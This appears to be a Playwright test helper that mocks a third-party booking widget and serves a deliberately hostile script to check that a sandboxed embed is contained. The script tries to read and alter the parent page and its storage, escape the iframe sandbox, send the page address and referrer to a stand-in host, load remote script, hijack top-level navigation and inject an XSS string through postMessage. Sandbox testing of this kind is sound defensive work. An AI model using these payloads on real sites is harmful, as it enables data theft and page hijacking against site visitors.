import type { Page, Request } from 'playwright-core';

/** Where the test practice has its booking service. */
export const BOOKING_SERVICE = 'https://book.visitdesk.example';
export const BOOKING_SCRIPT = `${BOOKING_SERVICE}/widget.js`;

/** A host that nobody of the site knows. */
const ELSEWHERE = 'https://elsewhere.example';

interface Asked {
  service: Request[];
  elsewhere: Request[];
}

/** Plays the booking service, which answers its script and everything else, and another host. Returns what each was asked. */
export async function bookingService(page: Page, script: string): Promise<Asked> {
  const asked: Asked = { service: [], elsewhere: [] };
  const empty = { contentType: 'text/html', headers: { 'Access-Control-Allow-Origin': '*' }, body: '<title>Outside</title>' };
  // Of the context, so that windows that the script opens are answered too.
  await page.context().route(`${BOOKING_SERVICE}/**`, (route) => {
    asked.service.push(route.request());
    const isScript = route.request().url() === BOOKING_SCRIPT;
    return route.fulfill(isScript ? { contentType: 'text/javascript', body: script } : empty);
  });
  await page.context().route(`${ELSEWHERE}/**`, (route) => {
    asked.elsewhere.push(route.request());
    return route.fulfill(empty);
  });
  return asked;
}

/** Opens the booking dialog and asks for the calendar. */
export async function askForCalendar(page: Page): Promise<void> {
  await page.click('.floating__book');
  await page.click('#booking .button--book');
}

/** A script that draws one free time. */
export const CALENDAR = `document.body.insertAdjacentHTML('beforeend', '<main><h1>Free times</h1><button id="calendar">Monday 9:00</button></main>');`;

/**
 * A script that tries all it should not be able to do, each by itself, and then posts what came of it to `/report`: `refused`, or the
 * value that it got.
 */
export const HOSTILE = `(async () => {
  const service = '${BOOKING_SERVICE}';
  const elsewhere = '${ELSEWHERE}';
  const within = (promise) => Promise.race([promise, new Promise((_, refuse) => setTimeout(refuse, 500, new Error('no answer')))]);
  const link = (attributes) => Object.assign(document.body.appendChild(document.createElement('a')), attributes);
  const pause = () => fetch(service + '/pause', { mode: 'no-cors' });
  const tries = {
    'reads the page': () => parent.document.body.textContent,
    'reads the top page': () => top.document.body.textContent,
    'reads the address of the page': () => parent.location.href,
    'reads who refers to it': () => document.referrer || Promise.reject(new Error('none')),
    'reads the storage of the page': () => parent.localStorage.length + ' entries',
    'changes the page': () => parent.document.body.append('changed'),
    'runs script in the page': () => parent.eval('document.title = "changed"'),
    'leaves its frame': () => frameElement.removeAttribute('sandbox'),
    'writes a cookie': () => (document.cookie = 'booking=1'),
    'writes local storage': () => localStorage.setItem('booking', '1'),
    'writes session storage': () => sessionStorage.setItem('booking', '1'),
    'writes a database': () => within(new Promise((resolve, refuse) => Object.assign(indexedDB.open('booking'), { onsuccess: resolve, onerror: refuse }))),
    'writes a cache': () => within(caches.open('booking')),
    'starts a service worker': () => within(navigator.serviceWorker.register('/client.js')),
    'opens a window without a press': () => open(service + '/popup') || Promise.reject(new Error('blocked')),
    'asks another host': () => within(fetch(elsewhere + '/fetched', { mode: 'no-cors' })),
    'loads a script of another host': () => within(new Promise((resolve, refuse) => document.body.append(Object.assign(document.createElement('script'), { src: elsewhere + '/more.js', onload: resolve, onerror: refuse })))),
    'runs text as script': () => eval('1'),
    'reads the page by a request': () => within(fetch('/sinus-quiz')).then((answer) => answer.text()),
    'sends the page to its host': () => within(fetch(service + '/own', { method: 'POST', mode: 'no-cors', body: location.href + document.referrer })).then(() => Promise.reject(new Error('all it has'))),
    'leads the page away': () => ((top.location = elsewhere + '/away'), pause()),
    'turns the address of the page': () => ((parent.location.hash = '#turned'), pause()),
    'leads the page away by a window': () => open(elsewhere + '/away', '_top') || Promise.reject(new Error('blocked')),
    'leads the page away by a link': async () => (link({ href: elsewhere + '/away', target: '_top' }).click(), await pause(), Promise.reject(new Error('nothing came'))),
    'leads the page away by a form': async () => {
      const form = document.body.appendChild(document.createElement('form'));
      Object.assign(form, { action: service + '/away', target: '_top' }).submit();
      await pause();
      throw new Error('nothing came');
    },
    'leads the page back': async () => (history.back(), await pause(), Promise.reject(new Error('nothing came'))),
  };
  for (const words of [{}, null, 7, ['drawn'], 'constructor', '__proto__', '<img src=x onerror=alert(1)>', 'drawn']) parent.postMessage(words, '*');
  const outcome = {};
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      outcome[name] = String(await attempt());
    } catch (error) {
      outcome[name] = 'refused';
    }
  }
  await fetch(service + '/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(outcome) });
})();`;
